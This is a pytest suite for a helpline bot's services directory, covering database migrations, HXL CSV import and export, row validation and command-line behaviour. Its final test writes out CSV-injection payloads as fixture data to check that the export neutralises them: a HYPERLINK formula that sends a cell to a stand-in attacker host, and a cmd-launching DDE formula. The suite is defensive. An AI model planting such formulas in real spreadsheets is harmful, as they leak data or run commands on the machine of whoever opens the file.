"""The services directory's schema (by migration) and its HXL import and export."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import sqlalchemy as sa

from bot import cli
from bot.services.hxl_io import COLUMNS, DirectoryFileError, export_file, import_file
from bot.services.models import Service
from bot.settings import PROJECT_ROOT
from bot.storage import (
    Base, SchemaError, current_revision, head_revision, load_models, make_engine,
    require_current, session_factory, upgrade,
)

SAMPLES = sorted((PROJECT_ROOT / "data" / "services").glob("*.csv"))
HEADER = ",".join(tag for tag, _ in COLUMNS.values())
GOOD = ("Sample Org (fictional),sorg,T-1,Test clinic,medical;legal_aid,A clinic,NG,Borno,NG008,"
        "Maiduguri,,Maiduguri,11.8333,13.15,+999 1,walk_in,en;ha,women;men,,,mon-fri 08:00-16:00,2026-10-01")


def write(tmp_path: Path, *rows: str, header: str = HEADER, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture(params=["sqlite", "postgresql"])
def sessions(request, tmp_path):
    url = (f"sqlite:///{tmp_path}/directory.db" if request.param == "sqlite"
           else request.getfixturevalue("postgres_url"))
    engine = make_engine(url)
    upgrade(engine)
    yield session_factory(engine)
    engine.dispose()


def test_the_schema_comes_from_migrations_and_matches_the_models(sessions):
    from alembic.autogenerate import compare_metadata
    from alembic.runtime.migration import MigrationContext

    engine = sessions.kw["bind"]
    load_models()
    assert current_revision(engine) == head_revision()
    with engine.connect() as connection:
        context = MigrationContext.configure(connection, opts={
            "include_name": lambda name, kind, parent: not (kind == "table" and name == "events")})
        assert compare_metadata(context, Base.metadata) == []


def test_an_unmigrated_database_is_refused_with_the_command_to_run(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path}/empty.db")
    with pytest.raises(SchemaError, match="helpline db upgrade"):
        require_current(engine)


def test_the_sample_directory_imports_cleanly_and_idempotently(sessions):
    with sessions() as session:
        reports = [import_file(session, path) for path in SAMPLES]
    assert [r.rejected for r in reports] == [0] * len(SAMPLES)
    assert sum(r.created for r in reports) >= 30
    with sessions() as session:
        again = [import_file(session, path) for path in SAMPLES]
    assert all(r.created == r.updated == 0 and r.unchanged == r.rows for r in again)
    with sessions() as session:
        countries = set(session.execute(sa.select(Service.country)).scalars())
    assert {"NG", "LY", "UA"} <= countries


def test_export_round_trips(sessions, tmp_path):
    with sessions() as session:
        for path in SAMPLES:
            import_file(session, path)
        buffer = io.StringIO()
        count = export_file(session, buffer)
    exported = tmp_path / "export.csv"
    exported.write_text(buffer.getvalue(), encoding="utf-8")
    with sessions() as session:
        report = import_file(session, exported)
    assert report.rows == count and report.unchanged == count and report.rejected == 0


def test_a_changed_row_updates_and_dry_run_writes_nothing(sessions, tmp_path):
    with sessions() as session:
        import_file(session, write(tmp_path, GOOD))
    changed = write(tmp_path, GOOD.replace("Test clinic", "Test clinic (moved)"), name="changed.csv")
    with sessions() as session:
        report = import_file(session, changed, dry_run=True)
    assert (report.updated, report.dry_run) == (1, True)
    with sessions() as session:
        assert session.execute(sa.select(Service.name)).scalar_one() == "Test clinic"
        report = import_file(session, changed)
    assert report.updated == 1
    with sessions() as session:
        service = session.execute(sa.select(Service)).scalar_one()
        assert service.name == "Test clinic (moved)"
        assert [c.code for c in service.categories] == ["legal_aid", "medical"]
        assert [l.language for l in service.languages] == ["en", "ha"]
        assert (service.walk_in, service.by_phone, service.serves_children) == (True, False, False)


@pytest.mark.parametrize(
    "row, line_problem",
    [
        (GOOD.replace("11.8333", "north"), "#geo+lat 'north' is not a number"),
        (GOOD.replace("11.8333", "95.2"), "#geo+lat '95.2' is outside -90..90"),
        (GOOD.replace("13.15", "nan"), "#geo+lon 'nan' is outside -180..180"),
        (GOOD.replace("11.8333,13.15", "0,0"), "0,0 is not a real place"),
        (GOOD.replace("medical;legal_aid", "medical;massage"), "unknown category 'massage'"),
        (GOOD.replace(",T-1,", ",,"), "#service+code is empty"),
        (GOOD.replace(",NG,", ",Nigeria,"), "#country+code 'Nigeria'"),
        (GOOD.replace("walk_in", "by bus"), "#access+type 'by bus'"),
        (GOOD.replace("mon-fri 08:00-16:00", "mornings"), "#meta+hours"),
        (GOOD.replace("2026-10-01", "1/10/2026"), "#date+verified '1/10/2026': use YYYY-MM-DD"),
        (GOOD.replace("women;men,,", "women;men,17,12"), "#beneficiary+age+min is above"),
    ],
)
def test_bad_rows_are_named_by_line_and_the_rest_imported(sessions, tmp_path, row, line_problem):
    other = GOOD.replace("T-1", "T-2")
    with sessions() as session:
        report = import_file(session, write(tmp_path, row, other))
    assert report.created == 1 and report.rejected == 1
    assert any(line == 2 and line_problem in problem for line, problem in report.problems), report.problems


def test_duplicates_in_a_file_are_refused_after_the_first(sessions, tmp_path):
    with sessions() as session:
        report = import_file(session, write(tmp_path, GOOD, GOOD))
    assert report.created == 1
    assert report.problems == [(3, "duplicate #service+code 'T-1' (first on line 2)")]


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "the file is empty"),
        (b"   \n\n", "the file is empty"),
        ("Organisation,Service\nAcme,Clinic\n".encode(), "no row of HXL hashtags"),
        ("#org+name,#service+code,#service+name\nA,B,C\n".encode(), "missing column(s) #service+type, #country+code, #geo+lat, #geo+lon"),
        (f"{HEADER}\n{GOOD}\n".replace("Maiduguri", "Maïduguri").encode("latin-1"), "not UTF-8 text (byte"),
    ],
)
def test_unreadable_files_are_refused_with_a_reason(sessions, tmp_path, content, message):
    path = tmp_path / "broken.csv"
    path.write_bytes(content)
    with sessions() as session, pytest.raises(DirectoryFileError) as error:
        import_file(session, path)
    assert message in str(error.value)


def test_a_utf8_file_with_a_byte_order_mark_and_human_headers_is_read(sessions, tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(("\ufeffOrganisation,...\n" + HEADER + "\n" + GOOD.replace("Test clinic", "Clínica") + "\n").encode("utf-8"))
    with sessions() as session:
        assert import_file(session, path).created == 1
        assert session.execute(sa.select(Service.name)).scalar_one() == "Clínica"


def test_a_huge_file_imports_every_row(tmp_path):
    rows = [GOOD.replace("T-1", f"T-{i}").replace("11.8333", f"{10 + (i % 900) / 100:.4f}")
            for i in range(20_000)]
    path = write(tmp_path, *rows)
    engine = make_engine(f"sqlite:///{tmp_path}/big.db")
    upgrade(engine)
    with session_factory(engine)() as session:
        report = import_file(session, path)
        assert (report.created, report.rejected) == (20_000, 0)
        assert session.execute(sa.select(sa.func.count()).select_from(Service)).scalar_one() == 20_000


def test_a_new_category_is_one_line_of_yaml(sessions, tmp_path):
    categories = tmp_path / "categories.yml"
    shutil.copy(PROJECT_ROOT / "data" / "services" / "categories.yml", categories)
    with categories.open("a", encoding="utf-8") as handle:
        handle.write('  cash_assistance: {en: "Cash", fr: "Argent", ar: "نقد", es: "Dinero"}\n')
    row = GOOD.replace("medical;legal_aid", "cash_assistance")
    with sessions() as session:
        report = import_file(session, write(tmp_path, row), categories_file=categories)
    assert report.categories_added == 1 and report.created == 1


def test_the_commands_report_and_exit_by_outcome(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HELPLINE_DATABASE_URL", f"sqlite:///{tmp_path}/cli.db")
    assert cli.main(["services", "import", str(SAMPLES[0])]) == 2
    assert "helpline db upgrade" in capsys.readouterr().err
    assert cli.main(["db", "upgrade"]) == 0
    assert cli.main(["services", "import", "--quiet", *map(str, SAMPLES)]) == 0
    assert "0 rejected" in capsys.readouterr().out
    bad = write(tmp_path, GOOD.replace("11.8333", "x"))
    assert cli.main(["services", "import", "--quiet", "--dry-run", str(bad)]) == 1
    captured = capsys.readouterr()
    assert "list.csv line 2: #geo+lat 'x' is not a number" in captured.err
    assert "dry run: nothing written" in captured.out
    assert cli.main(["services", "import", str(tmp_path / "missing.csv")]) == 2
    out = tmp_path / "export.csv"
    assert cli.main(["services", "export", str(out)]) == 0
    assert out.read_text(encoding="utf-8").splitlines()[1] == HEADER


def test_the_categories_file_covers_every_need_triage_can_suggest():
    from bot.services.categories import load_categories
    from bot.triage import NEED_CATEGORIES

    assert set(NEED_CATEGORIES) <= set(load_categories())


def test_exporting_into_a_pipe_closed_early_is_not_an_error(tmp_path):
    """``helpline services export - | head -1`` exits quietly."""
    import os
    import subprocess
    import sys

    url = f"sqlite:///{tmp_path}/pipe.db"
    env = dict(os.environ, HELPLINE_DATABASE_URL=url)
    engine = make_engine(url)
    upgrade(engine)
    rows = [GOOD.replace("T-1", f"T-{i}") for i in range(1500)]  # far more than a pipe buffers
    with session_factory(engine)() as session:
        import_file(session, write(tmp_path, *rows))
    engine.dispose()
    process = subprocess.Popen([sys.executable, "-m", "bot.cli", "services", "export", "-"],
                               env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout.readline().startswith(b"Organisation,")
    process.stdout.close()  # like `| head -1`
    assert process.wait(timeout=60) == 0
    assert b"BrokenPipeError" not in process.stderr.read()


def test_the_sample_directory_is_imported_only_for_the_sample_deployment_into_an_empty_one(
        tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HELPLINE_DATABASE_URL", f"sqlite:///{tmp_path}/sample.db")
    assert cli.main(["services", "sample"]) == 2  # not migrated: says which command to run
    assert "helpline db upgrade" in capsys.readouterr().err
    assert cli.main(["db", "upgrade"]) == 0
    real = tmp_path / "real.yml"
    real.write_text((PROJECT_ROOT / "deploy" / "sample.yml").read_text(encoding="utf-8"), encoding="utf-8")
    monkeypatch.setenv("HELPLINE_DEPLOYMENT", str(real))
    assert cli.main(["services", "sample"]) == 0
    assert "not the sample deployment" in capsys.readouterr().out
    monkeypatch.setenv("HELPLINE_DEPLOYMENT", str(PROJECT_ROOT / "deploy" / "sample.yml"))
    assert cli.main(["services", "sample"]) == 0
    out = capsys.readouterr().out
    assert "importing the fictional sample directory" in out and "29 places: 29 created" in out
    assert cli.main(["services", "sample"]) == 0
    assert "already has 31 services; nothing imported" in capsys.readouterr().out


def test_an_export_opens_as_text_in_a_spreadsheet_and_imports_back_unchanged(sessions, tmp_path):
    """Cells a spreadsheet would run as formulas get a leading quote (OWASP "CSV Injection");
    negative coordinates stay numbers; the import takes the quote off again."""
    hostile = (GOOD.replace("Test clinic,", '=HYPERLINK("http://evil.example/"&A1;"Open"),')
               .replace("A clinic,", "@SUM(1+1)*cmd|' /C calc'!A0,")
               .replace("11.8333,13.15,+999 1,", "-3.38,-60.021,+999 1 555,"))
    with sessions() as session:
        assert import_file(session, write(tmp_path, hostile)).created == 1
        buffer = io.StringIO()
        assert export_file(session, buffer) == 1
    *_, row = list(csv.reader(io.StringIO(buffer.getvalue())))
    cells = dict(zip([tag for tag, _ in COLUMNS.values()], row))
    assert cells["#service+name"] == '\'=HYPERLINK("http://evil.example/"&A1;"Open")'
    assert cells["#description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["#contact+phone"] == "'+999 1 555"
    assert (cells["#geo+lat"], cells["#geo+lon"]) == ("-3.38", "-60.021")  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
    exported = tmp_path / "export.csv"
    exported.write_text(buffer.getvalue(), encoding="utf-8")
    with sessions() as session:
        report = import_file(session, exported)
        service = session.execute(sa.select(Service)).scalar_one()
    assert (report.unchanged, report.rejected) == (1, 0)
    assert service.name.startswith("=HYPERLINK") and service.phone == "+999 1 555"
    assert (service.lat, service.lon) == (-3.38, -60.021)
